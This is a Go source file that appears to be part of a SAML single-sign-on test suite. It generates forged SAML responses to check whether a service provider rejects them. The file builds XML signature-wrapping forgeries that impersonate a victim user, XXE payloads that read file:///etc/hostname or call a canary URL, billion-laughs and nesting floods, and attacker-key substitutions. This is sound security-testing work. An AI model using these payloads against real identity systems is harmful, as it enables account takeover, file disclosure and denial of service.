package ssotest

import (
	"encoding/base64"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/beevik/etree"
)

// Attacks on the signature and the XML of a SAML answer, A-001 to A-030. Those that forge name Settings.Victim.
const (
	XSW1        Attack = iota + 1 // the signed Response inside of the Signature of a forged one
	XSW2                          // the signed Response and its Signature beside each other in a forged one
	XSW3                          // a forged Assertion before the signed one
	XSW4                          // a forged Assertion around the signed one
	XSW5                          // the signed Assertion altered, the original at the end
	XSW5NewID                     // the same, the altered one with an ID of its own
	XSW6                          // the original inside of the Signature of the altered one
	XSW7                          // a forged Assertion with the same ID in Extensions
	XSW7Swapped                   // the signed one in Extensions, the forged one in place
	XSW8                          // the original in an Object of the Signature of the altered one

	SignatureStripped
	EmptySignature
	NoSignedInfo
	TwoSignedInfos
	NoSignatureValue
	EmptySignatureValue
	OnlyResponseSigned
	OnlyAssertionSigned

	ReferenceSibling
	ReferenceRelative
	ReferenceXPointer
	ReferenceHash
	ReferenceDocument

	DuplicateID
	DecoyMixedID    // an Id in Extensions
	DecoyLowerID    // an id
	DecoyPrefixedID // an ID in a namespace

	TwoAssertions
	TwoAssertionsReversed
	CommentInNameID
	CommentInAttribute
	CDATAInNameID
	InstructionInNameID

	Doctype
	DoctypeUnused
	ExternalEntity
	ExternalFile
	ParameterEntity
	MetadataExternalEntity
	BillionLaughs
	AttributeExpansion
	DeepNesting
	DeepNestingSmall
	NamespaceFlood
	SiblingFlood
	HugeAnswer

	EmptyDigest
	FailingCanonicalization
	DuplicateAttributes
	ReboundPrefix
	ReservedPrefix
	UndeclaredPrefix
	CaseVariantAttribute

	TransformXSLT
	TransformXPath
	TransformBase64
	TransformComments
	ManyTransforms
	DigestComment
	TwoDigests
	DigestWhitespace
	DigestNotCanonical
	SeveralReferences
	SeveralReferencesReversed

	SHA1Signature
	SHA1Digest
	HMACSignature
	NoSignatureAlgorithm
	UnknownSignatureAlgorithm
	EmbeddedKey
	EmbeddedRightCertificate
	EmbeddedSameSubject
	KeyRetrieval
	KeyName
	KeySubjectName
	KeyAddress
	ExpiredCertificate
	FutureCertificate
	WeakCertificate

	afterSignatureAttacks
)

func signatureAttacks() []attack {
	return []attack{
		{Attack: XSW1, number: 1, name: "XSW1 signed Response in the Signature of a forged one", fields: signResponse, after: xsw1},
		{Attack: XSW2, number: 2, name: "XSW2 signed Response beside its Signature in a forged one", fields: signResponse, after: xsw2},
		{Attack: XSW3, number: 3, name: "XSW3 forged Assertion before the signed one", fields: signAssertion, after: xsw3},
		{Attack: XSW4, number: 4, name: "XSW4 forged Assertion around the signed one", fields: signAssertion, after: xsw4},
		{Attack: XSW5, number: 5, name: "XSW5 altered Assertion keeps the Signature", fields: signAssertion, after: func(m *message) { xsw5(m, false) }},
		{Attack: XSW5NewID, number: 5, name: "XSW5 with a new ID", fields: signAssertion, after: func(m *message) { xsw5(m, true) }},
		{Attack: XSW6, number: 6, name: "XSW6 original inside of the Signature", fields: signAssertion, after: xsw6},
		{Attack: XSW7, number: 7, name: "XSW7 forged Assertion in Extensions", fields: signAssertion, after: xsw7},
		{Attack: XSW7Swapped, number: 7, name: "XSW7 signed Assertion in Extensions", fields: signAssertion, after: xsw7Swapped},
		{Attack: XSW8, number: 8, name: "XSW8 original in an Object", fields: signAssertion, after: xsw8},

		{Attack: SignatureStripped, number: 9, name: "no signature at all", fields: signAssertion, after: func(m *message) {
			m.dropSignatures()
			rename(m.assertion(), m.victim)
		}},
		{Attack: EmptySignature, number: 10, name: "empty Signature", fields: signAssertion, after: m10(func(sig *etree.Element) { sig.Child = nil })},
		{Attack: NoSignedInfo, number: 10, name: "no SignedInfo", fields: signAssertion, after: m10(func(sig *etree.Element) { drop(sig, "SignedInfo") })},
		{Attack: TwoSignedInfos, number: 10, name: "two SignedInfo", fields: signAssertion, after: m10(func(sig *etree.Element) {
			sig.InsertChildAt(0, sig.SelectElement("SignedInfo").Copy())
		})},
		{Attack: NoSignatureValue, number: 10, name: "no SignatureValue", fields: signAssertion, after: m10(func(sig *etree.Element) { drop(sig, "SignatureValue") })},
		{Attack: EmptySignatureValue, number: 10, name: "empty SignatureValue", fields: signAssertion, after: m10(func(sig *etree.Element) {
			sig.SelectElement("SignatureValue").SetText("")
		})},
		{Attack: OnlyResponseSigned, number: 11, name: "only the Response is signed", want: Judge, fields: func(_ *message, r *Response) {
			r.Sign, r.Assertion.Unsigned = true, true
		}},
		{Attack: OnlyAssertionSigned, number: 11, name: "only the Assertion is signed", want: Judge, fields: func(_ *message, r *Response) {
			r.Sign, r.Assertion.Unsigned = false, false
		}},

		{Attack: ReferenceSibling, number: 12, name: "reference to a sibling", fields: signAssertion, before: func(m *message) {
			rename(m.assertion(), m.victim)
			m.extension(`<decoy xmlns="urn:decoy" ID="_decoy"/>`)
		}, sign: onAssertion(func(m *message, _ *etree.Element) {
			m.sig.references[0].uri, m.sig.references[0].covers = "#_decoy", m.root.FindElement("./Extensions/decoy")
		})},
		{Attack: ReferenceRelative, number: 12, name: "relative reference", fields: signAssertion, sign: refer(func(string) string { return "answer.xml" })},
		{Attack: ReferenceXPointer, number: 12, name: "XPointer", fields: signAssertion, sign: refer(func(id string) string { return "#xpointer(id('" + id + "'))" })},
		{Attack: ReferenceHash, number: 12, name: "bare #", fields: signAssertion, sign: refer(func(string) string { return "#" })},
		{Attack: ReferenceDocument, number: 12, name: "reference to the whole document", fields: signAssertion, sign: onAssertion(func(m *message, _ *etree.Element) {
			m.sig.references[0].uri, m.sig.references[0].covers = "", m.root
		})},

		{Attack: DuplicateID, number: 13, name: "Response and Assertion share an ID", fields: func(_ *message, r *Response) { r.ID = r.Assertion.ID }},
		{Attack: DecoyMixedID, number: 13, name: "decoy with Id", want: Judge, after: decoy(`Id`)},
		{Attack: DecoyLowerID, number: 13, name: "decoy with id", want: Judge, after: decoy(`id`)},
		{Attack: DecoyPrefixedID, number: 13, name: "decoy with a prefixed ID", want: Judge, after: decoy(`xmlns:d="urn:decoy" d:ID`)},
		{Attack: TwoAssertions, number: 14, name: "two signed Assertions", fields: signAssertion, after: func(m *message) { m.second(false) }},
		{Attack: TwoAssertionsReversed, number: 14, name: "two signed Assertions, the victim's first", fields: signAssertion, after: func(m *message) { m.second(true) }},
		{Attack: CommentInNameID, number: 15, name: "comment in NameID", before: split(nameID, etree.NewComment("x"))},
		{Attack: CommentInAttribute, number: 15, name: "comment in an attribute", before: split(addressValue, etree.NewComment("x"))},
		{Attack: CDATAInNameID, number: 16, name: "CDATA in NameID", want: Judge, before: split(nameID, etree.NewCData(""))},
		{Attack: InstructionInNameID, number: 16, name: "processing instruction in NameID", before: split(nameID, etree.NewProcInst("x", "y"))},

		{Attack: Doctype, number: 17, name: "DOCTYPE", text: prefix(`<!DOCTYPE samlp:Response>`)},
		{Attack: DoctypeUnused, number: 17, name: "DOCTYPE with an entity that nothing uses", text: prefix(`<!DOCTYPE samlp:Response [<!ENTITY unused "x">]>`)},
		{Attack: ExternalEntity, number: 18, name: "external entity", text: func(m *message, text string) string {
			return entity(m, `<!ENTITY x SYSTEM "`+m.p.CanaryURL()+`">`, text)
		}},
		{Attack: ExternalFile, number: 18, name: "external entity of a file", text: func(m *message, text string) string {
			return entity(m, `<!ENTITY x SYSTEM "file:///etc/hostname">`, text)
		}},
		{Attack: ParameterEntity, number: 18, name: "parameter entity", text: func(m *message, text string) string {
			return `<!DOCTYPE samlp:Response [<!ENTITY % x SYSTEM "` + m.p.CanaryURL() + `"> %x;]>` + text
		}},
		{Attack: MetadataExternalEntity, number: 18, name: "external entity in metadata", meta: func(p *Provider, text string) string {
			return `<!DOCTYPE md:EntityDescriptor [<!ENTITY x SYSTEM "` + p.CanaryURL() + `">]>` +
				strings.Replace(text, "</md:OrganizationName>", "&x;</md:OrganizationName>", 1)
		}},
		{Attack: BillionLaughs, number: 19, name: "billion laughs", text: func(m *message, text string) string { return entity(m, laughs(), text) }},
		{Attack: AttributeExpansion, number: 19, name: "entities in an attribute", text: func(m *message, text string) string {
			return `<!DOCTYPE samlp:Response [` + laughs() + `]>` + strings.Replace(text, `Destination="`, `Destination="&x;`, 1)
		}},
		{Attack: DeepNesting, number: 20, name: "100 000 levels", text: inExtensions(func() string { return nested(100_000) })},
		{Attack: DeepNestingSmall, number: 20, name: "20 000 levels in 140 KB", text: inExtensions(func() string { return nested(20_000) })},
		{Attack: NamespaceFlood, number: 20, name: "50 000 namespaces", text: func(_ *message, text string) string {
			return strings.Replace(text, "<samlp:Response ", "<samlp:Response "+namespaces(50_000), 1)
		}},
		{Attack: SiblingFlood, number: 20, name: "100 000 siblings", text: inExtensions(func() string { return strings.Repeat("<a/>", 100_000) })},
		{Attack: HugeAnswer, number: 20, name: "10 MB", text: inExtensions(func() string { return strings.Repeat("x", 10<<20) })},

		{Attack: EmptyDigest, number: 21, name: "digest of nothing", fields: signAssertion, before: forged, sign: onAssertion(emptyDigest)},
		{Attack: FailingCanonicalization, number: 21, name: "digest of nothing over what has no canonical form", fields: signAssertion, before: forged, sign: onAssertion(emptyDigest),
			text: func(_ *message, text string) string {
				return strings.Replace(text, "<saml:Subject>", `<saml:Subject><undeclared:x xmlns:e=""/>`, 1)
			}},
		{Attack: DuplicateAttributes, number: 22, name: "one attribute under two prefixes", before: func(m *message) {
			el := m.root.FindElement("//NameID")
			for _, a := range [][2]string{{"xmlns:a", "urn:one"}, {"xmlns:b", "urn:one"}, {"a:x", "1"}, {"b:x", "2"}} {
				el.CreateAttr(a[0], a[1])
			}
		}},
		{Attack: ReboundPrefix, number: 22, name: "NameID of a foreign namespace under the known prefix", before: func(m *message) {
			el := parse(`<saml:NameID xmlns:saml="urn:foreign"/>`)
			el.SetText(m.victim)
			m.root.FindElement("//Subject").InsertChildAt(0, el)
		}},
		{Attack: ReservedPrefix, number: 22, name: "xml prefix bound to something else", text: func(_ *message, text string) string {
			return strings.Replace(text, "<samlp:Response ", `<samlp:Response xmlns:xml="urn:foreign" `, 1)
		}},
		{Attack: UndeclaredPrefix, number: 22, name: "undeclared prefix", text: inExtensions(func() string { return "<nobody:x/>" })},
		{Attack: CaseVariantAttribute, number: 22, name: "attributes in other case", want: Judge, before: func(m *message) {
			m.assertion().CreateAttr("id", "_other")
			m.assertion().CreateAttr("version", "1.1")
		}},

		{Attack: TransformXSLT, number: 23, name: "XSLT", fields: signAssertion, sign: transforms(enveloped, transformXS, exclusive)},
		{Attack: TransformXPath, number: 23, name: "XPath", fields: signAssertion, sign: transforms(transformXP, exclusive)},
		{Attack: TransformBase64, number: 23, name: "base64", fields: signAssertion, sign: transforms(enveloped, transform64, exclusive)},
		{Attack: TransformComments, number: 23, name: "canonical form with comments", fields: signAssertion, sign: transforms(enveloped, exclusiveComments)},
		{Attack: ManyTransforms, number: 23, name: "30 transforms", fields: signAssertion, sign: transforms(append([]string{enveloped}, slices.Repeat([]string{exclusive}, 29)...)...)},
		{Attack: DigestComment, number: 24, name: "the forged digest in a comment", fields: signAssertion, after: func(m *message) {
			value := m.forgeInPlace().FindElement(".//DigestValue")
			value.InsertChildAt(0, etree.NewComment(m.digest()))
		}},
		{Attack: TwoDigests, number: 24, name: "two digests", fields: signAssertion, after: func(m *message) {
			value := m.forgeInPlace().FindElement(".//DigestValue")
			forged := value.Copy()
			forged.SetText(m.digest())
			value.Parent().InsertChildAt(value.Index(), forged)
		}},
		{Attack: DigestWhitespace, number: 24, name: "white space in the digest", want: Judge, fields: signAssertion, sign: onAssertion(func(m *message, _ *etree.Element) {
			m.sig.references[0].write = func(d string) string { return "\n" + d[:20] + " \n" + d[20:] + "\n" }
		})},
		{Attack: DigestNotCanonical, number: 24, name: "digest in base64 with stray bits", fields: signAssertion, sign: onAssertion(func(m *message, _ *etree.Element) {
			m.sig.references[0].write = strayBits
		})},
		{Attack: SeveralReferences, number: 25, name: "two references", fields: signAssertion, sign: onAssertion(func(m *message, _ *etree.Element) { m.twoReferences(false) })},
		{Attack: SeveralReferencesReversed, number: 25, name: "two references, the foreign one first", fields: signAssertion, sign: onAssertion(func(m *message, _ *etree.Element) { m.twoReferences(true) })},

		{Attack: SHA1Signature, number: 26, name: "SHA-1 signature", sign: func(m *message, _ *etree.Element) { m.sig.method = rsaSHA1 }},
		{Attack: SHA1Digest, number: 26, name: "SHA-1 digest", sign: func(m *message, _ *etree.Element) { m.sig.digest = digestSHA1 }},
		{Attack: HMACSignature, number: 27, name: "HMAC keyed with the certificate", fields: victimised, sign: func(m *message, _ *etree.Element) { m.sig.method = hmacSHA256 }},
		{Attack: NoSignatureAlgorithm, number: 27, name: "no signature algorithm", sign: func(m *message, _ *etree.Element) { m.sig.method = "" }},
		{Attack: UnknownSignatureAlgorithm, number: 27, name: "unknown signature algorithm", sign: func(m *message, _ *etree.Element) { m.sig.method = vendorsOwn }},
		{Attack: EmbeddedKey, number: 28, name: "the attacker's key and certificate", fields: victimised, sign: func(m *message, _ *etree.Element) {
			m.sig.key = newKey(curveKey(), "Attacker", m.p.now(), time.Hour)
			m.sig.method = ECDSASHA256
		}},
		{Attack: EmbeddedRightCertificate, number: 28, name: "the attacker's key under the right certificate", fields: victimised, sign: func(m *message, _ *etree.Element) {
			right := m.sig.key
			m.sig.key = m.p.newKey()
			m.sig.keyInfo = func(info *etree.Element) { writeCertificate(info, right) }
		}},
		{Attack: EmbeddedSameSubject, number: 28, name: "a certificate with the same subject name", fields: victimised, sign: func(m *message, _ *etree.Element) {
			m.sig.key = m.p.newKey()
		}},
		{Attack: KeyRetrieval, number: 29, name: "RetrievalMethod", want: Judge, sign: keyInfo(func(m *message, info *etree.Element) {
			method := info.CreateElement("ds:RetrievalMethod")
			method.CreateAttr("URI", m.p.CanaryURL())
			method.CreateAttr("Type", nsSig+"X509Data")
		})},
		{Attack: KeyName, number: 29, name: "KeyName", want: Judge, sign: keyInfo(func(m *message, info *etree.Element) {
			info.CreateElement("ds:KeyName").SetText(m.p.CanaryURL())
		})},
		{Attack: KeySubjectName, number: 29, name: "X509SubjectName", want: Judge, sign: keyInfo(func(m *message, info *etree.Element) {
			info.CreateElement("ds:X509Data").CreateElement("ds:X509SubjectName").SetText(m.sig.key.cert.Subject.String())
		})},
		{Attack: KeyAddress, number: 29, name: "address of a key", want: Judge, sign: keyInfo(func(m *message, info *etree.Element) {
			ref := info.CreateElement("dsig11:KeyInfoReference")
			ref.CreateAttr("xmlns:dsig11", "http://www.w3.org/2009/xmldsig11#")
			ref.CreateAttr("URI", m.p.CanaryURL())
		})},
		{Attack: ExpiredCertificate, number: 30, name: "expired certificate", want: Judge, now: certified(2048, -48*time.Hour)},
		{Attack: FutureCertificate, number: 30, name: "certificate of next week", want: Judge, now: certified(2048, 7*24*time.Hour)},
		{Attack: WeakCertificate, number: 30, name: "RSA key of 1024 bits", now: certified(1024, 0)},
	}
}

// The kinds of answer that an attack begins with.

func signResponse(_ *message, r *Response) { r.Sign, r.Encrypt = true, Encryption{} }
func signAssertion(_ *message, r *Response) {
	r.Sign, r.Assertion.Unsigned, r.Encrypt = false, false, Encryption{}
}

// victimised names the victim before anything is signed.
func victimised(m *message, r *Response) {
	if r.Assertion.NameID != nil {
		name := *r.Assertion.NameID
		name.Value = m.victim
		r.Assertion.NameID = &name
	}
	r.Assertion.Attributes = victimAttributes(r.Assertion.Attributes, m.victim)
}

func victimAttributes(all []Attribute, victim string) []Attribute {
	all = slices.Clone(all)
	for i, a := range all {
		if len(a.Values) == 1 && strings.Contains(a.Values[0], "@") {
			all[i].Values = []string{victim}
		}
	}
	return all
}

// rename makes an Assertion name somebody else.
func rename(assertion *etree.Element, victim string) {
	for _, el := range assertion.FindElements(".//NameID") {
		el.SetText(victim)
	}
	for _, el := range assertion.FindElements(".//AttributeValue") {
		if strings.Contains(el.Text(), "@") {
			el.SetText(victim)
		}
	}
}

// forgery is a copy of an Assertion without its Signature that names the victim.
func (m *message) forgery(assertion *etree.Element) *etree.Element {
	el := assertion.Copy()
	drop(el, "Signature")
	rename(el, m.victim)
	el.CreateAttr("ID", "_"+random())
	return el
}

func forged(m *message) { rename(m.assertion(), m.victim) }

// drop removes the children with a tag.
func drop(el *etree.Element, tag string) {
	for _, child := range el.SelectElements(tag) {
		el.RemoveChild(child)
	}
}

// bare is a copy without its Signature: what the digest was made of.
func bare(el *etree.Element) *etree.Element {
	c := el.Copy()
	drop(c, "Signature")
	return c
}

func (m *message) dropSignatures() {
	drop(m.root, "Signature")
	for _, el := range m.root.SelectElements("Assertion") {
		drop(el, "Signature")
	}
}

// extension puts an element into the Extensions of the Response.
func (m *message) extension(text string) { m.extend(parse(text)) }

func (m *message) extend(el *etree.Element) {
	ext := m.root.SelectElement("Extensions")
	if ext == nil {
		ext = etree.NewElement("samlp:Extensions")
		at := m.root.SelectElement("Status").Index()
		m.root.InsertChildAt(at, ext)
	}
	ext.AddChild(el)
}

// forgeResponse makes the root a forged Response, and returns what was signed and its Signature.
func (m *message) forgeResponse() (signed, sig *etree.Element) {
	sig = m.root.SelectElement("Signature").Copy()
	signed = bare(m.root)
	evil := bare(m.root)
	evil.CreateAttr("ID", "_"+random())
	assertion := evil.SelectElement("Assertion")
	at := assertion.Index()
	evil.RemoveChildAt(at)
	evil.InsertChildAt(at, m.forgery(assertion))
	m.root = evil
	return signed, sig
}

func xsw1(m *message) {
	signed, sig := m.forgeResponse()
	sig.AddChild(signed)
	m.root.InsertChildAt(afterIssuer(m.root), sig)
}

func xsw2(m *message) {
	signed, sig := m.forgeResponse()
	m.root.AddChild(signed)
	m.root.AddChild(sig)
}

func xsw3(m *message) {
	a := m.assertion()
	m.root.InsertChildAt(a.Index(), m.forgery(a))
}

func xsw4(m *message) {
	signed := m.assertion().Copy()
	evil := m.forgery(signed)
	evil.AddChild(signed)
	m.replaceAssertion(evil)
}

func xsw5(m *message, newID bool) {
	original := bare(m.assertion())
	rename(m.assertion(), m.victim)
	if newID {
		m.assertion().CreateAttr("ID", "_"+random())
	}
	m.root.AddChild(original)
}

// signedForgery replaces the Assertion by a forged one that carries its Signature, and returns both and the original.
func (m *message) signedForgery() (original, sig *etree.Element) {
	original = bare(m.assertion())
	sig = m.assertion().SelectElement("Signature").Copy()
	evil := m.forgery(m.assertion())
	evil.InsertChildAt(afterIssuer(evil), sig)
	m.replaceAssertion(evil)
	return original, sig
}

func xsw6(m *message) {
	original, sig := m.signedForgery()
	sig.AddChild(original)
}

func xsw7(m *message) {
	evil := m.forgery(m.assertion())
	evil.CreateAttr("ID", m.assertion().SelectAttrValue("ID", ""))
	m.extend(evil)
}

func xsw7Swapped(m *message) {
	signed := m.assertion().Copy()
	evil := m.forgery(signed)
	evil.CreateAttr("ID", signed.SelectAttrValue("ID", ""))
	m.replaceAssertion(evil)
	m.extend(signed)
}

func xsw8(m *message) {
	original, sig := m.signedForgery()
	sig.CreateElement("ds:Object").AddChild(original)
}

// m10 forges the Assertion and spoils its Signature.
func m10(spoil func(sig *etree.Element)) func(*message) {
	return func(m *message) {
		rename(m.assertion(), m.victim)
		spoil(m.assertion().SelectElement("Signature"))
	}
}

// onAssertion changes the signature of the Assertion, not of the Response.
func onAssertion(change func(m *message, el *etree.Element)) func(*message, *etree.Element) {
	return func(m *message, el *etree.Element) {
		if el.Tag == "Assertion" {
			change(m, el)
		}
	}
}

func refer(uri func(id string) string) func(*message, *etree.Element) {
	return onAssertion(func(m *message, el *etree.Element) { m.sig.references[0].uri = uri(el.SelectAttrValue("ID", "")) })
}

func transforms(list ...string) func(*message, *etree.Element) {
	return onAssertion(func(m *message, _ *etree.Element) { m.sig.references[0].transforms = list })
}

func keyInfo(write func(m *message, info *etree.Element)) func(*message, *etree.Element) {
	return func(m *message, _ *etree.Element) { m.sig.keyInfo = func(info *etree.Element) { write(m, info) } }
}

func emptyDigest(m *message, _ *etree.Element) { m.sig.references[0].empty = true }

// strayBits sets bits of the last character that stand for nothing.
func strayBits(digest string) string {
	const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
	at := len(strings.TrimRight(digest, "=")) - 1
	return digest[:at] + string(alphabet[strings.IndexByte(alphabet, digest[at])|1]) + digest[at+1:]
}

func decoy(attribute string) func(*message) {
	return func(m *message) {
		m.extension(`<decoy xmlns="urn:decoy" ` + attribute + `="` + m.r.Assertion.ID + `"/>`)
	}
}

// second adds a signed Assertion about the victim.
func (m *message) second(first bool) {
	a := *m.r.Assertion
	m.r.Assertion = &a
	victimised(m, &m.r)
	a.ID = "_" + random()
	el := writeAssertion(a)
	sig := m.p.signatureLocked(el)
	sig.sign(el, afterIssuer(el))
	at := m.assertion().Index()
	if !first {
		at++
	}
	m.root.InsertChildAt(at, el)
}

func nameID(m *message) *etree.Element { return m.assertion().FindElement("./Subject/NameID") }

func addressValue(m *message) *etree.Element {
	for _, el := range m.assertion().FindElements(".//AttributeValue") {
		if strings.Contains(el.Text(), "@") {
			return el
		}
	}
	panic("ssotest: the Assertion has no attribute with an address")
}

// split makes a text "victim@corp.example.evil.example" with something before ".evil.example".
func split(of func(*message) *etree.Element, by etree.Token) func(*message) {
	return func(m *message) {
		el := of(m)
		el.SetText(m.victim)
		if _, cdata := by.(*etree.CharData); cdata {
			el.CreateCData(".evil.example")
			return
		}
		el.AddChild(by)
		el.CreateText(".evil.example")
	}
}

func prefix(text string) func(*message, string) string {
	return func(_ *message, rest string) string { return text + rest }
}

// entity declares an entity x, and has the NameID be it.
func entity(_ *message, declaration, text string) string {
	end := strings.Index(text, "</saml:NameID>")
	if end < 0 {
		end = strings.Index(text, "</saml:Issuer>")
	}
	begin := strings.LastIndex(text[:end], ">") + 1
	return `<!DOCTYPE samlp:Response [` + declaration + `]>` + text[:begin] + "&x;" + text[end:]
}

func laughs() string {
	var b strings.Builder
	b.WriteString(`<!ENTITY l0 "ha">`)
	for i := 1; i < 10; i++ {
		of := string(rune('0' + i - 1))
		b.WriteString(`<!ENTITY l` + string(rune('0'+i)) + ` "` + strings.Repeat("&l"+of+";", 10) + `">`)
	}
	b.WriteString(`<!ENTITY x "&l9;">`)
	return b.String()
}

// inExtensions puts a text into the Extensions of the Response, which nobody has to parse here.
func inExtensions(inner func() string) func(*message, string) string {
	return func(_ *message, text string) string {
		return strings.Replace(text, "<samlp:Status>", "<samlp:Extensions>"+inner()+"</samlp:Extensions><samlp:Status>", 1)
	}
}

func namespaces(n int) string {
	var b strings.Builder
	for i := range n {
		b.WriteString("xmlns:n" + strconv.Itoa(i) + `="urn:x" `)
	}
	return b.String()
}

func nested(n int) string { return strings.Repeat("<a>", n) + strings.Repeat("</a>", n) }

// forgeInPlace alters the Assertion under its Signature.
func (m *message) forgeInPlace() *etree.Element {
	rename(m.assertion(), m.victim)
	return m.assertion()
}

// digest is the digest that the Assertion as it is now would have.
func (m *message) digest() string {
	h := hashes()[m.sig.digest].New()
	h.Write(canonical(bare(m.assertion())))
	return base64.StdEncoding.EncodeToString(h.Sum(nil))
}

// twoReferences adds a reference to a forged Assertion in Extensions, which the provider signs too.
func (m *message) twoReferences(first bool) {
	evil := m.forgery(m.assertion())
	m.extend(evil)
	own := m.sig.references[0]
	other := reference{uri: "#" + evil.SelectAttrValue("ID", ""), covers: evil, transforms: own.transforms}
	m.sig.references = []reference{own, other}
	if first {
		m.sig.references = []reference{other, own}
	}
}

// certified gives the provider a key with another certificate, at once.
func certified(bits int, from time.Duration) func(*Provider) {
	return func(p *Provider) {
		k := newKey(rsaKey(bits), p.cfg.Name, p.now().Add(from), 24*time.Hour)
		p.mu.Lock()
		defer p.mu.Unlock()
		p.saml = keys{signs: k}
	}
}
